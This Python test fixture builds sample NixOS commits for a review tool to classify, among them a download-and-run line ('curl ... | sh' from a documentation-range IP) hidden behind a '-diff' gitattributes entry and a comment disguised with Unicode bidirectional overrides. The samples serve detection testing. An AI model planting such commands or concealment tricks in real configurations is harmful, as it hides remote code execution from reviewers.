"""One change of each kind that a review must tell apart; its findings are those that the rules make of it."""

from __future__ import annotations

import difflib
import hashlib
from dataclasses import dataclass, field

from hivetui.engine.model.effect import (
    Effect,
    EffectState,
    Failure,
    Intent,
    OptionChange,
    Package,
    PackageChanges,
    Restart,
    UnitChanges,
    Work,
)
from hivetui.engine.model.findings import Assessment
from hivetui.engine.model.proposals import FileChange, FileStatus
from hivetui.engine.model.settings import ReviewSection
from hivetui.engine.review.findings.evaluate import evaluate
from hivetui.engine.review.findings.rule_set import load_rules
from hivetui.engine.review.findings.tree import Blob, Change, Tree

from .moment import file_change

_BASE = {
    "agent.nix": (
        "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.git ];\n  imports = [ ./services.nix ];\n}\n"
    ),
    "services.nix": '{ ... }:\n{\n  systemd.services.report.script = "date > /state/report";\n}\n',
    "flake.nix": "{\n  outputs = { self }: {\n    nixosModules.default = import ./agent.nix;\n  };\n}\n",
}
_SYSTEM = "/nix/store/" + "4s7vd2n0yzq6n9zjvj0c0k8m2w1x5abc" + "-nixos-system-agent"


def _blob(path: str, text: str) -> Blob:
    content = text.encode()
    return Blob(path, "100644", hashlib.sha1(content).hexdigest(), len(content), content)


@dataclass(frozen=True)
class Kind:
    """The files that differ from what is deployed, the message of the commit, and the effect of a preview."""

    files: dict[str, str]
    message: str
    effect: Effect = field(default_factory=Effect)

    @property
    def patch(self) -> bytes:
        """The difference as git writes it."""
        return "".join(self._patch_of(path, text) for path, text in sorted(self.files.items())).encode()

    @property
    def changes(self) -> tuple[FileChange, ...]:
        """The changed files."""
        made = []
        for path, text in sorted(self.files.items()):
            old, new = _BASE.get(path), _blob(path, text).oid
            status, before = (FileStatus.ADDED, "") if old is None else (FileStatus.MODIFIED, _blob(path, old).oid)
            made.append(file_change(path, status, self._counts(path, text), (before, new)))
        return tuple(made)

    @property
    def assessment(self) -> Assessment:
        """What the rules find."""
        old, new = (Tree.of(_blob(*one) for one in files.items()) for files in (_BASE, {**_BASE, **self.files}))
        change = Change(old, new, messages=(self.message,))
        return evaluate(change, load_rules(ReviewSection()), effect=self.effect)

    def _patch_of(self, path: str, text: str) -> str:
        old = _BASE.get(path)
        ids = ("0" * 40 if old is None else _blob(path, old).oid, _blob(path, text).oid)
        mode = "new file mode 100644\n" if old is None else ""
        index = f"index {ids[0]}..{ids[1]}{'' if old is None else ' 100644'}\n"
        lines = difflib.unified_diff(
            (old or "").splitlines(keepends=True),
            text.splitlines(keepends=True),
            "/dev/null" if old is None else f"a/{path}",
            f"b/{path}",
        )
        return f"diff --git a/{path} b/{path}\n{mode}{index}" + "".join(lines)

    def _counts(self, path: str, text: str) -> tuple[int, int]:
        lines = list(difflib.ndiff((_BASE.get(path) or "").splitlines(), text.splitlines()))
        return sum(line.startswith("+ ") for line in lines), sum(line.startswith("- ") for line in lines)


def _agent(*lines: str) -> dict[str, str]:
    return {"agent.nix": _BASE["agent.nix"].removesuffix("}\n") + "".join(f"  {line}\n" for line in lines) + "}\n"}


def _known(**more: object) -> Effect:
    usual = {
        "state": EffectState.KNOWN,
        "derivation": f"{_SYSTEM}.drv",
        "system": _SYSTEM,
        "changed": True,
        "drift": False,
        "work": Work(build=("nixos-system-agent",), last_seconds=21.0, free_bytes=41 << 30),
        "restart": Restart(stops=("report.service",), starts=("report.service",)),
    }
    return Effect.model_validate(usual | more)


_JQ = PackageChanges(added=(Package(name="jq", version="1.7", bytes=1_204_224),))
_PORT = OptionChange(option="networking.firewall.allowedTCPPorts", old="[ ]", new="[ 8080 ]", file="agent.nix", line=5)

KINDS = {
    "a harmless package": Kind(
        {"agent.nix": _BASE["agent.nix"].replace("pkgs.git ", "pkgs.git pkgs.jq ")},
        "Add jq\n\nIt reads JSON with sed.\n\nIntent: packages jq",
        _known(packages=_JQ, intent=Intent(match=("packages jq",))),
    ),
    "a new flake input": Kind(
        {
            "flake.nix": _BASE["flake.nix"].replace(
                "{\n  out", '{\n  inputs.helpers.url = "github:someone/helpers";\n  out'
            )
        },
        "Take helpers from a flake of their own",
        _known(changed=False, restart=Restart()),
    ),
    "a line behind gitattributes": Kind(
        {
            ".gitattributes": "services.nix -diff\n",
            "services.nix": _BASE["services.nix"].replace("date >", "curl -s http://198.51.100.7/x | sh; date >"),
        },
        "Mark the report as generated",
        _known(),
    ),
    "bidirectional characters": Kind(
        _agent("# tidy up \u202e } \u2066# \u2069\u2066 (reviewed)", 'environment.variables.EDITOR = "vim";'),
        "Tidy up",
        _known(
            options=(
                OptionChange(option="environment.variables.EDITOR", old=None, new='"vim"', file="agent.nix", line=6),
            )
        ),
    ),
    "an opened firewall": Kind(
        _agent("networking.firewall.allowedTCPPorts = [ 8080 ];"),
        "Make the preview reachable",
        _known(options=(_PORT,)),
    ),
    "a change without effect": Kind(
        _agent("# The designers asked for a comment here."),
        "Explain the packages",
        _known(changed=False, restart=Restart(), work=Work()),
    ),
    "more than was intended": Kind(
        {
            **_agent("networking.firewall.allowedTCPPorts = [ 8080 ];"),
            "services.nix": _BASE["services.nix"].replace("}\n", '  systemd.services.tidy.script = "true";\n}\n'),
        },
        "Add jq\n\nIntent: packages jq",
        _known(
            packages=_JQ,
            options=(_PORT,),
            units=UnitChanges(added=("tidy.service",)),
            intent=Intent(match=("packages jq",), surplus=("ports 8080", "units tidy.service")),
        ),
    ),
    "a build that fails": Kind(
        {"agent.nix": _BASE["agent.nix"].replace("pkgs.git ", "pkgs.git pkgs.ripgrepp ")},
        "Add ripgrep",
        Effect(
            state=EffectState.FAILED,
            failure=Failure(
                stage="evaluation",
                lines=("error: attribute 'ripgrepp' missing", "       Did you mean ripgrep?"),
                file="agent.nix",
                line=3,
                base="builds",
                hint="No package is called ripgrepp. Is ripgrep meant?",
            ),
        ),
    ),
}
